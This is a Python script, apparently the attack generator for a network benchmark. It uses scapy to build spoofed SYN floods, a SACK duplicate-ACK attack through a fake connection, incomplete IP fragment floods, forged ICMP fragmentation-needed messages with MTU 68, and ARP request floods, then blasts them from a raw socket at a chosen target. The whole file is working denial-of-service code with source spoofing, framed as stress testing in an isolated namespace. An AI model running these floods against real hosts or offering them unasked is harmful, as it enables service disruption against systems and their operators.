#!/usr/bin/env python3
"""The attack generators of Benchmarks/attack/run.py: each builds a set of crafted frames with
scapy once, then sends them round and round from a raw packet socket as fast as one process can,
for a given time, and prints how many it sent. Run inside the client's network namespace:

  python3 floods.py CLASS INTERFACE TARGET_IP TARGET_MAC PORT SECONDS [RATE]

RATE is frames per second, sent in bursts of 64 on a schedule; 0 or absent: as fast as it can.

Classes (issue 13's numbering):
  syn        SYNs to PORT from 150 addresses of the target's subnet that never answer;
  sack       (1) one connection from an address that exists only on the wire, with responses to 400
             pipelined GET requests in flight and never acknowledged, then duplicate ACKs whose
             SACK blocks name 1-byte islands of that data;
  fragments  (5) 8-byte non-final fragments and first fragments of datagrams never completed;
  path-mtu   (4) ICMP fragmentation-needed with MTU 68 quoting made-up TCP connections;
  arp        (6) ARP requests for the target from 250 senders of its subnet and 4,096 off it;
  arp-on-link    the same from the 250 senders of its subnet only: each is answered.
The ghost addresses are in the target's /24, from .100 up; nothing answers for them."""
import os
import random
import socket
import sys
import time

sys.dont_write_bytecode = True


def subnet_address(target, last):
    return ".".join(target.split(".")[:3] + [str(last)])


def syn(target, mac, port, ghost_mac):
    from scapy.all import Ether, IP, TCP
    frames = []
    for index in range(4096):
        source = subnet_address(target, 100 + index % 150)
        frames.append(Ether(src=ghost_mac, dst=mac) / IP(src=source, dst=target) /
                      TCP(sport=1024 + index, dport=port, flags="S", seq=random.getrandbits(32), options=[("MSS", 1460)]))
    return frames


def fragments(target, mac, port, ghost_mac):
    from scapy.all import Ether, IP, Raw
    frames = []
    source = subnet_address(target, 1)
    for index in range(4096):
        size = 8 if index % 2 else 1480
        frames.append(Ether(dst=mac) / IP(src=source, dst=target, id=random.getrandbits(16), flags="MF", proto=17) /
                      Raw(os.urandom(size)))
    return frames


def path_mtu(target, mac, port, ghost_mac):
    from scapy.all import Ether, IP, ICMP, TCP
    frames = []
    source = subnet_address(target, 1)
    for index in range(4096):
        quoted = IP(src=target, dst=f"198.51.100.{index % 250 + 1}", flags="DF") / TCP(sport=port, dport=1024 + index, seq=random.getrandbits(32))
        frames.append(Ether(dst=mac) / IP(src=source, dst=target) / ICMP(type=3, code=4, nexthopmtu=68) / bytes(quoted)[:28])
    return frames


def arp_on_link(target, mac, port, ghost_mac):
    from scapy.all import Ether, ARP
    frames = []
    for last in range(3, 255):
        sender, hw = subnet_address(target, last), "02:00:00:01:00:%02x" % last
        if sender != target:
            frames.append(Ether(src=hw, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=hw, psrc=sender, pdst=target))
    return frames


def arp(target, mac, port, ghost_mac):
    from scapy.all import Ether, ARP
    frames = arp_on_link(target, mac, port, ghost_mac)
    for index in range(4096):
        hw = "02:00:00:02:%02x:%02x" % (index >> 8, index & 255)
        frames.append(Ether(src=hw, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=hw, psrc=f"172.16.{index >> 8}.{index & 255}", pdst=target))
    return frames


def sack(target, mac, port, ghost_mac, interface):
    """Opens the ghost's connection, sends the requests, learns what is in flight, and returns
    the duplicate ACKs to send."""
    from scapy.all import ARP, AsyncSniffer, Ether, IP, TCP, Raw, conf, sendp, srp1
    conf.verb = 0
    ghost = subnet_address(target, 77)
    sendp(Ether(src=ghost_mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=ghost_mac, psrc=ghost, pdst=target), iface=interface)
    time.sleep(0.2)
    base = Ether(src=ghost_mac, dst=mac) / IP(src=ghost, dst=target)
    sport, seq = 40000 + os.getpid() % 20000, 1000
    answer = srp1(base / TCP(sport=sport, dport=port, flags="S", seq=seq, window=65535,
                             options=[("MSS", 1460), ("SAckOK", b"")]), iface=interface, timeout=3)
    if answer is None or not answer.haslayer(TCP):
        sys.exit("sack: no SYN-ACK for the ghost")
    ack = answer[TCP].seq + 1
    seq += 1
    sendp(base / TCP(sport=sport, dport=port, flags="A", seq=seq, ack=ack, window=65535), iface=interface)
    sniffer = AsyncSniffer(iface=interface, filter=f"tcp and src host {target} and dst host {ghost}", store=True)
    sniffer.start()
    time.sleep(0.2)
    requests = b"GET / HTTP/1.1\r\nHost: ghost\r\n\r\n" * 400
    for offset in range(0, len(requests), 1400):
        chunk = requests[offset:offset + 1400]
        sendp(base / TCP(sport=sport, dport=port, flags="PA", seq=seq, ack=ack, window=65535) / Raw(chunk), iface=interface)
        seq += len(chunk)
    time.sleep(1.0)
    sent = [p for p in sniffer.stop() if p.haslayer(TCP) and len(p[TCP].payload) > 0]
    highest = max([(p[TCP].seq - ack) % (1 << 32) + len(p[TCP].payload) for p in sent] or [2000])
    frames = []
    for index in range(2048):
        start = 2 + 6 * random.randrange(max(1, (highest - 20) // 6))
        blocks = [(ack + start + 2 * k) % (1 << 32) for k in range(3)]
        edges = tuple(x for b in blocks for x in (b, (b + 1) % (1 << 32)))
        frames.append(base / TCP(sport=sport, dport=port, flags="A", seq=seq, ack=ack, window=65535, options=[("SAck", edges)]))
    print(f"sack: {highest} bytes in flight to the ghost", file=sys.stderr)
    return frames


def main():
    kind, interface, target, mac, port, seconds = sys.argv[1:7]
    port, seconds = int(port), float(seconds)
    rate = float(sys.argv[7]) if len(sys.argv) > 7 else 0.0
    ghost_mac = "02:00:00:00:00:77"
    if kind == "sack":
        frames = sack(target, mac, port, ghost_mac, interface)
    else:
        frames = {"syn": syn, "fragments": fragments, "path-mtu": path_mtu, "arp": arp, "arp-on-link": arp_on_link}[kind](target, mac, port, ghost_mac)
    raw = [bytes(frame) for frame in frames]
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((interface, 0))
    print("ready", flush=True)
    sent = 0
    start = time.monotonic()
    end = start + seconds
    burst = 64
    index = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if rate > 0 and sent > (now - start) * rate:
            time.sleep(min(burst / rate, end - now))
            continue
        for _ in range(burst):
            try:
                sender.send(raw[index])
            except OSError:  # the device's queue is full: that is full rate
                pass
            index = (index + 1) % len(raw)
        sent += burst
    print(f"sent {sent} {sent / seconds:.0f}", flush=True)


if __name__ == "__main__":
    main()
